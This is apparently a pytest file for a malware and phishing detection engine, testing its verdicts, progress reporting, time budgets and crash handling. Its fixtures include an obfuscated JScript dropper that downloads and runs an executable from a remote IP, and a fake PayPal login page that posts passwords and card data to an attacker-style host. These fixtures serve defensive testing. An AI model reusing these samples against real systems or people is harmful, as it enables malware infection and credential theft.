"""RiskEngine end to end on fixtures we wrote: explained verdicts, progress, robustness."""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

from malwaresnipper.engine import Capture, EngineConfig, Progress, RiskEngine, ThreatLevel
from malwaresnipper.engine.config import Layers, Limits

DROPPER = (
    "var _0x3f2a=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x52\\x75\\x6e'];"
    "var s=new ActiveXObject(_0x3f2a[0]);var f=new ActiveXObject('Scripting.FileSystemObject');"
    "var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://198.51.100.7/p.exe',false);x.send();"
    "var b=new ActiveXObject('ADODB.Stream');b.Open();b.Type=1;b.Write(x.ResponseBody);"
    "b.SaveToFile(f.GetSpecialFolder(2)+'\\\\a.exe',2);s[_0x3f2a[1]](f.GetSpecialFolder(2)+'\\\\a.exe');"
    "eval(unescape('%76%61%72%20%61%3d%31'));eval(String.fromCharCode(97,61,49,59,97,61,50,59));"
)

PHISH = """<html><head><title>PayPal: Log in to your account</title></head><body>
<h1>PayPal</h1><p>Your PayPal account has been limited. Verify your identity to restore access.</p>
<form action="http://collector.example-evil.ru/login.php" method="post">
<input type="email" name="login_email"><input type="password" name="login_password">
<input name="cc_number" autocomplete="cc-number"><input name="cvv"><button>Log In</button></form>
<iframe src="http://tracker.example-evil.ru/x" width="0" height="0" style="display:none"></iframe>
</body></html>"""

BENIGN = """<!doctype html><html><head><title>Release notes</title></head><body><h1>Release 2.1</h1>
<p>Bug fixes and performance improvements.</p><a href="/docs">Docs</a>
<script>document.querySelector('h1').addEventListener('click',function(){console.log('hi')});</script>
</body></html>"""


def test_dropper_is_malicious_with_evidence() -> None:
    verdict = RiskEngine().scan(Capture.build("https://files.test/invoice.js", scripts=[DROPPER]))
    assert verdict.threat_level is ThreatLevel.MALICIOUS, verdict.to_dict()
    assert any(i.layer == "javascript" and i.evidence for i in verdict.indicators)
    assert verdict.classification not in ("benign", "unknown")


def test_phishing_page_is_flagged_and_explained() -> None:
    verdict = RiskEngine().scan(Capture.build("http://paypal-account-verify.example-evil.ru/signin", html=PHISH))
    assert verdict.threat_level is not ThreatLevel.BENIGN, verdict.to_dict()
    assert verdict.classification == "phishing"
    assert {i.layer for i in verdict.indicators} >= {"url", "dom"}


def test_benign_page_is_benign() -> None:
    verdict = RiskEngine().scan(Capture.build("https://docs.example.org/release", html=BENIGN))
    assert verdict.threat_level is ThreatLevel.BENIGN, verdict.to_dict()
    assert verdict.risk_score < 40
    assert len(verdict.scripts) == 1 and verdict.scripts[0]["inline"] is True


def test_progress_reported_after_each_layer() -> None:
    seen: list[Progress] = []
    engine = RiskEngine()
    engine.scan(Capture.build("https://a.test/", html=BENIGN), progress=seen.append)
    assert [p.layer for p in seen] == [layer.name for layer in engine.layers]
    assert [p.done for p in seen] == list(range(1, len(engine.layers) + 1))
    assert seen[-1].percent == 100


def test_broken_progress_callback_does_not_break_the_scan() -> None:
    def explode(_: Progress) -> None:
        raise RuntimeError("boom")

    verdict = RiskEngine().scan(Capture.build("https://a.test/"), progress=explode)
    assert len(verdict.layers) == 6


def test_layers_can_be_restricted_for_ablations() -> None:
    engine = RiskEngine(layers=["url", "dom"])
    verdict = engine.scan(Capture.build("https://a.test/", html=PHISH))
    assert [r.layer for r in verdict.layers] == ["url", "dom"]


def test_disabled_layers_do_not_run() -> None:
    engine = RiskEngine(EngineConfig(layers=Layers(enabled=["url"])))
    assert [layer.name for layer in engine.layers] == ["url"]


def _layer(name: str, work: Callable[[], None]) -> Any:
    class Layer:
        version = "1"

        def analyze(self, capture, features):  # noqa: ANN001, ANN201
            work()
            from malwaresnipper.engine import LayerResult

            return LayerResult(layer=name, score=0)

    Layer.name = name  # type: ignore[attr-defined]
    return Layer()


def _burn_cpu(seconds: float) -> None:
    end = time.process_time() + seconds
    while time.process_time() < end:
        pass


def test_time_budget_skips_remaining_layers_and_the_verdict_is_incomplete_not_benign() -> None:
    engine = RiskEngine(EngineConfig(limits=Limits(time_budget_ms=10)), layers=["url"])
    engine.layers = [_layer(n, lambda: _burn_cpu(0.05)) for n in ("a", "b", "c")]
    verdict = engine.scan(Capture.build("https://a.test/"))
    assert len(verdict.layers) == 1
    assert any(i.id == "engine.time_budget" for i in verdict.indicators)
    assert not verdict.complete and "b, c did not run" in verdict.incomplete_reasons[0]
    assert verdict.threat_level.value == "SUSPICIOUS"
    assert verdict.indicators[0].id == "engine.incomplete"


def test_time_budget_counts_cpu_time_so_a_busy_machine_skips_nothing() -> None:
    """A layer waiting (another process has the CPU) does not eat the budget: skipping layers
    under load would turn load into false alarms."""
    engine = RiskEngine(EngineConfig(limits=Limits(time_budget_ms=10)), layers=["url"])
    engine.layers = [_layer(n, lambda: time.sleep(0.05)) for n in ("a", "b", "c")]
    verdict = engine.scan(Capture.build("https://a.test/"))
    assert len(verdict.layers) == 3 and verdict.complete
    assert verdict.threat_level.value == "BENIGN"


def test_a_crashing_layer_becomes_an_indicator() -> None:
    class Broken:
        name = "broken"
        version = "1"

        def analyze(self, capture, features):  # noqa: ANN001, ANN201
            raise ValueError("bad day")

    engine = RiskEngine(layers=["url"])
    engine.layers.append(Broken())  # type: ignore[arg-type]
    verdict = engine.scan(Capture.build("https://a.test/"))
    broken = [r for r in verdict.layers if r.layer == "broken"][0]
    assert broken.error and "bad day" in broken.error
    assert any(i.id == "engine.layer_error" for i in verdict.indicators)
    # a layer that could not look is a blind spot an attacker could aim for: never BENIGN
    assert not verdict.complete and "broken layer failed" in verdict.incomplete_reasons[0]
    assert verdict.threat_level is ThreatLevel.SUSPICIOUS


def test_huge_single_line_script_and_deep_nesting_complete() -> None:
    big = "a=" + "1+" * 2_500_000 + "1;"  # ~5 MB one line
    nested = "<div>" * 20000 + "x" + "</div>" * 20000
    verdict = RiskEngine().scan(Capture.build("https://a.test/", html=nested, scripts=[big]))
    assert 0 <= verdict.risk_score <= 100
    assert not [r.error for r in verdict.layers if r.error]
